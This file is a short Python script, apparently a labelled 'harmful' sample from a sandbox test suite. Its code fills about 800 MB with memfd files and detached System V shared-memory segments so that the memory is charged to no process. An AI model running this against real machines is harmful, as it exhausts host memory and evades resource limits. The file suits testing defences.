# attack: memory that counts for no process: files without a folder, and shared memory let go
# harmless: no
import ctypes
import os

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
held = []
for number in range(40):
    held.append(os.memfd_create("a"))
    os.write(held[-1], b"x" * 10_000_000)
    place = libc.shmat(libc.shmget(1000 + number, 10_000_000, 0o1666), None, 0)
    ctypes.memset(place, 120, 10_000_000)
    libc.shmdt(place)
print([line for line in open("/proc/meminfo") if line.startswith("Shmem:")], flush=True)
